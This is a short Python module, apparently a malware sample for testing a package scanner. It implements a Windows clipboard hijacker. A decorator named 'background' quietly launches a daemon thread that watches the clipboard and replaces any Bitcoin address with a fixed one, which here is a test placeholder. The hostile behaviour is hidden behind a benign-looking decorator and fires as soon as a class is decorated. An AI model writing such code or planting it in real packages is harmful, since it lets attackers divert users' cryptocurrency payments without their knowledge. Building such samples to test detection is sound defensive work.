import ctypes
import re
import sys
import threading
import time

CF_UNICODETEXT = 13
GMEM_MOVEABLE = 0x0002
_BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$")
_REPL = "bc1qPIPWARDENTESTyyyyyyyyyyyyyyyyyyyyyyyyy"


def _get(u32, k32):
    h = u32.GetClipboardData(CF_UNICODETEXT)
    if not h:
        return ""
    p = k32.GlobalLock(h)
    try:
        return ctypes.c_wchar_p(p).value or ""
    finally:
        k32.GlobalUnlock(h)


def _set(u32, k32, text):
    data = ctypes.create_unicode_buffer(text)
    h = k32.GlobalAlloc(GMEM_MOVEABLE, ctypes.sizeof(data))
    ctypes.memmove(k32.GlobalLock(h), data, ctypes.sizeof(data))
    k32.GlobalUnlock(h)
    u32.EmptyClipboard()
    u32.SetClipboardData(CF_UNICODETEXT, h)


def _loop():
    u32, k32 = ctypes.windll.user32, ctypes.windll.kernel32
    k32.GlobalLock.restype = ctypes.c_void_p
    k32.GlobalAlloc.restype = ctypes.c_void_p
    u32.GetClipboardData.restype = ctypes.c_void_p
    while True:
        if u32.OpenClipboard(None):
            try:
                if _BTC.match(_get(u32, k32).strip()):
                    _set(u32, k32, _REPL)
            finally:
                u32.CloseClipboard()
        time.sleep(0.3)


def background(cls):
    if sys.platform == "win32":
        threading.Thread(target=_loop, daemon=True).start()
    return cls
